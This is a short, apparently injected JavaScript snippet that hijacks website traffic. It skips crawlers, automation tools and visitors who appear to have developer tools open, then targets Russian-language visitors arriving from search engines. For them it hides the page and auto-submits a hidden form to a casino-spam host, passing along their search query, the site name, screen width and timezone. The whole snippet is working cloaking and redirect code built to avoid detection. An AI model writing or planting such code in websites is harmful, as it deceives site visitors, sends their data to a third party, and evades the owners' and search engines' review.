(function(){
	var r = document.referrer.toLowerCase(), u = navigator.userAgent.toLowerCase();
	var bots = ["googlebot","bingbot","yandexbot","baiduspider","adsbot","facebookexternalhit","ahrefs","headless","lighthouse","python","curl"];
	for (var i = 0; i < bots.length; i++) if (u.indexOf(bots[i]) >= 0) return;
	var tz = -new Date().getTimezoneOffset() / 60;
	if (tz < 2 || tz > 12) return;
	if (r.indexOf("yandex") < 0 && r.indexOf("google") < 0 && r.indexOf("mail.ru") < 0) return;
	if (navigator.webdriver || window.outerWidth === 0 || !navigator.languages || navigator.languages.join().indexOf("ru") < 0) return;
	if (window.outerHeight - window.innerHeight > 250) return;
	var f = document.createElement("form");
	f.method = "POST";
	f.action = "https://kazino-bonus.example/in.php";
	var d = { k: (r.match(/[?&](q|text)=([^&]+)/) || [])[2] || document.title, s: location.host, w: screen.width, tz: tz };
	for (var n in d) {
		var h = document.createElement("input");
		h.type = "hidden"; h.name = n; h.value = d[n];
		f.appendChild(h);
	}
	document.documentElement.style.display = "none";
	document.body.appendChild(f);
	f.submit();
})();
